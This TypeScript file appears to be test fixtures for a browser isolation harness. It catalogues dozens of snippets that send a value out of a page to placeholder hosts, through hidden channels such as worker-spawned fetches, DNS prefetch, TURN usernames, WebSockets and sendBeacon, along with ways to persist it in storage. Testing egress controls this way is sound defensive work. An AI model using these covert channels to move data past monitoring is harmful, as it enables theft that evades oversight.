import type { Page } from './page.js'

const http = { leaves: 'http', control: 'servers' } as const
const socket = { leaves: 'websocket', control: 'servers' } as const
const name = { leaves: 'name lookup', control: 'names' } as const

/** Other scripts than the page's own: workers, frames, fresh realms. */
export const realms: readonly Page[] = [
  { id: 'worker', ...http, code: `new Worker('/worker.js').postMessage(v)` },
  { id: 'worker-module', ...http, code: `new Worker('/module-worker.js', { type: 'module' }).postMessage(v)` },
  { id: 'worker-blob', ...http, code: `new Worker(blobUrl('fetch("' + S + '/bw?' + v + '", { mode: "no-cors" })'))` },
  {
    id: 'worker-data',
    ...http,
    code: `new Worker('data:text/javascript,' + encodeURIComponent('fetch("' + S + '/dw?' + v + '", { mode: "no-cors" })'))`,
  },
  { id: 'worker-import-scripts', ...http, code: `new Worker(blobUrl('importScripts("' + S + '/is.js?' + v + '")'))` },
  {
    id: 'worker-xhr',
    ...http,
    code: `new Worker(blobUrl('const x = new XMLHttpRequest(); x.open("POST", "' + S + '/wx", false); x.send("' + v + '")'))`,
  },
  {
    id: 'worker-nested',
    ...http,
    code: `const inner = 'fetch("' + S + '/nw?' + v + '", { mode: "no-cors" })'; new Worker(blobUrl('new Worker(URL.createObjectURL(new Blob([' + JSON.stringify(inner) + '])))'))`,
  },
  {
    id: 'worker-socket',
    ...socket,
    code: `new Worker(blobUrl('const w = new WebSocket("' + W + '"); w.onopen = () => w.send("' + v + '")'))`,
  },
  {
    id: 'worker-name',
    ...http,
    code: `new SharedWorker(blobUrl('fetch("' + S + '/n?" + name, { mode: "no-cors" })'), v)`,
  },
  { id: 'shared-worker', ...http, code: `new SharedWorker('/shared.js').port.postMessage(v)` },
  {
    id: 'service-worker',
    ...http,
    code: `navigator.serviceWorker.register('/service.js'); (await navigator.serviceWorker.ready).active.postMessage(v)`,
  },
  { id: 'fresh-realm', ...http, code: `E('iframe').contentWindow.fetch(S + '/fr?' + v, { mode: 'no-cors' })` },
  { id: 'srcdoc', ...http, code: `E('iframe', { srcdoc: '<img src="' + S + '/sd?' + v + '">' })` },
  {
    id: 'sandboxed-srcdoc',
    ...http,
    code: `E('iframe', { sandbox: 'allow-scripts', srcdoc: '<script>fetch("' + S + '/sb", { method: "POST", mode: "no-cors", body: "' + v + '" })</' + 'script>' })`,
  },
  {
    id: 'blob-frame',
    ...http,
    code: `E('iframe', { src: blobUrl('<img src="' + S + '/bf?' + v + '">', 'text/html') })`,
  },
  {
    id: 'frame-relay',
    ...http,
    code: `const f = E('iframe', { src: 'http://relay.localhost:' + location.port + '/relay.html' }); f.onload = () => f.contentWindow.postMessage(v, '*')`,
  },
  { id: 'worklet', ...http, code: `CSS.paintWorklet.addModule(S + '/paint.js?' + v).catch(() => {})` },
  {
    id: 'audio-worklet',
    ...http,
    code: `new OfflineAudioContext(1, 128, 44100).audioWorklet.addModule(S + '/audio.js?' + v).catch(() => {})`,
  },
]

/** Ways that are no request. */
export const others: readonly Page[] = [
  { id: 'socket-text', ...socket, code: `const w = new WebSocket(W); w.onopen = () => w.send(v)` },
  {
    id: 'socket-binary',
    ...socket,
    code: `const w = new WebSocket(W); w.onopen = () => w.send(new TextEncoder().encode(v))`,
  },
  { id: 'socket-blob', ...socket, code: `const w = new WebSocket(W); w.onopen = () => w.send(new Blob([v]))` },
  { id: 'socket-url', ...socket, code: `new WebSocket(W + '?' + v)` },
  { id: 'socket-protocol', ...socket, code: `new WebSocket(W, [v])` },
  { id: 'socket-close', ...socket, code: `const w = new WebSocket(W); w.onopen = () => w.close(3000, v)` },
  { id: 'socket-tls', ...socket, code: `const w = new WebSocket('wss://socket.test/ws'); w.onopen = () => w.send(v)` },
  {
    id: 'socket-stream',
    ...socket,
    code: `const { writable } = await new WebSocketStream(W).opened; writable.getWriter().write(v)`,
  },
  { id: 'preconnect', ...name, code: `E('link', { rel: 'preconnect', href: 'http://' + v + '.' + H })` },
  { id: 'dns-prefetch', ...name, code: `E('link', { rel: 'dns-prefetch', href: '//' + v + '.' + H })` },
  { id: 'stun-host', ...name, code: `peer({ urls: 'stun:' + v + '.' + H + ':9002' })` },
  {
    id: 'turn-udp',
    leaves: 'udp',
    control: 'servers',
    code: `peer({ urls: 'turn:' + U + '?transport=udp', username: v, credential: 'x' })`,
  },
  {
    id: 'turn-udp-odd-port',
    leaves: 'udp',
    control: 'servers',
    code: `peer({ urls: 'turn:192.0.2.99:6123?transport=udp', username: v, credential: 'x' })`,
  },
  {
    id: 'turn-tcp',
    leaves: 'connection',
    control: 'servers',
    code: `peer({ urls: 'turn:192.0.2.7:9003?transport=tcp', username: v, credential: 'x' })`,
  },
  {
    id: 'turn-tcp-odd-port',
    leaves: 'connection',
    control: 'servers',
    code: `peer({ urls: 'turn:192.0.2.98:6124?transport=tcp', username: v, credential: 'x' })`,
  },
  {
    id: 'web-transport',
    leaves: 'webtransport',
    control: 'names',
    code: `const t = new WebTransport('https://' + v + '.' + H + ':9002/wt'); t.ready.catch(() => {}); t.closed.catch(() => {})`,
  },
  {
    id: 'fedcm',
    leaves: 'http',
    control: 'names',
    code: `navigator.credentials.get({ identity: { providers: [{ configURL: 'https://' + v + '.' + H + '/fedcm.json', clientId: '1' }] } }).catch(() => {})`,
  },
  {
    id: 'message-to-parent',
    leaves: 'message',
    control: 'protocol',
    code: `const f = E('iframe', { src: 'http://teller.localhost:' + location.port + '/teller.html' }); f.onload = () => f.contentWindow.postMessage(v, '*')`,
  },
  {
    id: 'message-by-port',
    leaves: 'message',
    control: 'protocol',
    code: `const f = E('iframe', { src: 'http://porter.localhost:' + location.port + '/porter.html' }); const { port1, port2 } = new MessageChannel(); port1.onmessage = () => {}; f.onload = () => f.contentWindow.postMessage(v, '*', [port2])`,
  },
  {
    id: 'pagehide-refused',
    leaves: 'http',
    control: 'net-log',
    code: `addEventListener('pagehide', () => navigator.sendBeacon('http://192.0.2.7:45678/?' + v))`,
  },
  {
    id: 'mailto',
    leaves: 'navigation',
    control: 'protocol',
    code: `location.href = 'mailto:a@example.test?body=' + v`,
  },
  { id: 'open-fragment', leaves: 'navigation', control: 'protocol', code: `open(S + '/page#' + v)` },
]

/** What stays. */
export const kept: readonly Page[] = [
  { id: 'cookie', rests: 'cookie', code: `document.cookie = 'kept=' + v + ';max-age=9999'` },
  { id: 'local-storage', rests: 'localStorage', code: `localStorage.setItem('k', v)` },
  { id: 'local-storage-key', rests: 'localStorage', code: `localStorage.setItem(v, '1')` },
  {
    id: 'local-storage-pagehide',
    rests: 'localStorage',
    code: `addEventListener('pagehide', () => localStorage.setItem('late', v))`,
  },
  { id: 'session-storage', rests: 'sessionStorage', code: `sessionStorage.setItem('k', v)` },
  {
    id: 'indexed-db',
    rests: 'IndexedDB',
    code: `const r = indexedDB.open('d', 1); r.onupgradeneeded = () => r.result.createObjectStore('s').put({ deep: [v] }, 'k')`,
  },
  {
    id: 'indexed-db-bytes',
    rests: 'IndexedDB',
    code: `const r = indexedDB.open('d', 1); r.onupgradeneeded = () => r.result.createObjectStore('s').put(new TextEncoder().encode(v), 'k')`,
  },
  { id: 'cache', rests: 'CacheStorage', code: `(await caches.open('c')).put('/k', new Response(v))` },
  {
    id: 'file-system',
    rests: 'file system',
    code: `const f = await (await navigator.storage.getDirectory()).getFileHandle('f', { create: true }); const w = await f.createWritable(); await w.write(v); await w.close()`,
  },
  { id: 'hash', rests: 'history', code: `location.hash = v` },
  { id: 'history-state', rests: 'history', code: `history.replaceState({ v }, '')` },
  { id: 'title', rests: 'title', code: `document.title = v` },
  { id: 'window-name', rests: 'window name', code: `window.name = v` },
  { id: 'console', rests: 'console', code: `console.debug({ deep: { deeper: { deepest: [v] } } })` },
  { id: 'uncaught-error', rests: 'error', code: `setTimeout(() => { throw new Error('no ' + v) })` },
  { id: 'unhandled-rejection', rests: 'error', code: `Promise.reject(new Error(v))` },
  { id: 'download', rests: 'download', code: `E('a', { href: blobUrl(v, 'text/plain'), download: 'a.txt' }).click()` },
  {
    id: 'download-name',
    rests: 'download',
    code: `E('a', { href: 'data:text/plain,x', download: v + '.txt' }).click()`,
  },
  { id: 'lock-name', rests: 'lock name', code: `navigator.locks.request(v, () => later(60000))` },
  { id: 'performance-mark', rests: 'performance mark', code: `performance.mark(v)` },
  { id: 'performance-detail', rests: 'performance mark', code: `performance.mark('m', { detail: { v } })` },
  { id: 'document-attribute', rests: 'document', code: `document.body.dataset.q = v` },
  { id: 'clipboard', rests: 'clipboard', code: `navigator.clipboard.writeText(v)` },
  {
    id: 'frame-storage',
    rests: 'localStorage',
    code: `const f = E('iframe', { src: '/blank.html' }); f.onload = () => f.contentWindow.localStorage.setItem('framed', v)`,
  },
]
